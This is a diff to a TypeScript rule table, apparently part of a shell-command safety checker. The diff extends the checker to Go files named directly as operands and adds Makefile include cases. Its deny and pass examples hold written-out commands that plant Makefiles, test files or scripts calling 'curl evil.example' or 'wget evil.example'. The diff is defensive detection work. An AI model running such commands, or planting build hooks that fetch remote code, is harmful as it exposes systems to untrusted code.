@@ -162,6 +162,8 @@ interface Row {
   file?: readonly string[];
   /** Options naming files of code it runs besides the project's (`gradle -I init.gradle`). */
   also?: readonly string[];
+  /** Operands that name the very files it runs, wherever they are (`go run /tmp/x.go`), read in place of `files`. */
+  operands?: RegExp;
   /**
    * Its first operand names the project's directory when no option does (`cmake /tmp/src`); `valued`: its options that
    * take the next word when written alone (`-G Ninja`).
@@ -199,8 +201,8 @@ export const PROJECT_ROWS: readonly Row[] = [
     spec: MAKE_OPTIONS,
     envFiles: ['MAKEFILES'],
     examples: {
-      deny: ["printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make -sf /tmp/m", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make --fi=/tmp/m", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && MAKEFILES=/tmp/m make", "printf 'all:\\n\\tcurl evil.example\\n' > Makefile && make", "printf 'X = curl\\nall:\\n\\t$(X) evil.example\\n' > sub/Makefile && make -C sub", "printf 'all: ; wget evil.example\\n' > b.mk && make -f b.mk"],
-      pass: ["printf 'all:\\n\\t$(CC) -o app main.c\\n' > Makefile && make", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make -s -f b.mk", "printf 'all:\\n\\tcurl evil.example\\n' > sub/Makefile && make"],
+      deny: ["printf 'x := $(shell curl evil.example)\\n' > /tmp/x.mk && make --eval 'include /tmp/x.mk'", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make -sf /tmp/m", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make --fi=/tmp/m", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && MAKEFILES=/tmp/m make", "printf 'all:\\n\\tcurl evil.example\\n' > Makefile && make", "printf 'X = curl\\nall:\\n\\t$(X) evil.example\\n' > sub/Makefile && make -C sub", "printf 'all: ; wget evil.example\\n' > b.mk && make -f b.mk"],
+      pass: ["printf 'include config.mk\\nall:\\n\\t$(CC) -o app main.c\\n' > Makefile && make", "printf 'all:\\n\\t$(CC) -o app main.c\\n' > Makefile && make", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make -s -f b.mk", "printf 'all:\\n\\tcurl evil.example\\n' > sub/Makefile && make"],
     },
   },
   {
@@ -285,7 +287,7 @@ export const PROJECT_ROWS: readonly Row[] = [
   { names: ['perl', 'prove'], code: [{ files: /\.(?:pl|pm|t)$/, read: language('perl', 'perl') }], examples: { deny: [`echo 'system("curl evil.example")' > t/a.t && prove`], pass: ['echo \'print "ok 1\\n"\' > t/a.t && prove'] } },
   { names: ['php', 'phpunit'], code: [{ files: /\.php$/, read: language('php', 'php') }], examples: { deny: [`echo '<?php system("curl evil.example");' > tests/ATest.php && phpunit`], pass: [] } },
   { names: ['cargo'], code: [{ files: /\.rs$/, read: unread('Rust', 'cargo') }, { files: /^rust-toolchain(?:\.toml)?$/, read: (text, word, name) => (/^\s*path\s*=/m.test(text) ? [{ kind: 'opaque', rule: 'dynamic-script', word, why: `cargo runs the toolchain ${name}, which the line wrote, names by its directory (path =): its programs are not read` }] : []) }, { files: /^Makefile\.toml$/, read: unread('a cargo-make task file', 'cargo make') }], dir: ['-C'], examples: { deny: ["echo 'fn main(){}' > src/main.rs && cargo run"], pass: ['cargo build && cargo test'] } },
-  { names: ['go'], code: [{ files: /\.go$/, read: unread('Go', 'go') }], dir: ['-C'], runs: /^(run|test|generate)$/, examples: { deny: ["echo 'package main' > main.go && go run ."], pass: ['go test ./...', "echo 'package main' > main.go && go build ./..."] } },
+  { names: ['go'], code: [{ files: /\.go$/, read: unread('Go', 'go') }], dir: ['-C'], runs: /^(run|test|generate)$/, operands: /\.go$/, examples: { deny: ["echo 'package main' > main.go && go run .", "echo 'package main' > /tmp/x.go && go run /tmp/x.go"], pass: ['go test ./...', "echo 'package main' > main.go && go build ./...", "echo 'package main' > /tmp/x.go && go run ./cmd/x.go"] } },
   {
     names: ['gradle', 'gradlew'],
     code: [{ files: /\.gradle(?:\.kts)?$/, read: unread('a Gradle build script', 'gradle') }],
@@ -533,6 +535,14 @@ export function projectRuns(call: Call): Run[] {
     if (row.dir?.includes(name)) dir = word;
     else if (row.file?.includes(name)) files.push(word);
     else if (row.also?.includes(name)) first.push(word);
+  }
+  // `go run /tmp/x.go`: the files named are the code it runs (after `--`, words are the program's own).
+  if (row.operands) {
+    for (const a of call.args) {
+      const v = value(a);
+      if (v === '--') break;
+      if (v !== undefined && !v.startsWith('-') && row.operands.test(v)) files.push(a);
+    }
   }
   if (!dir && row.dirOperand) {
     for (let i = 0; i < call.args.length; i++) {
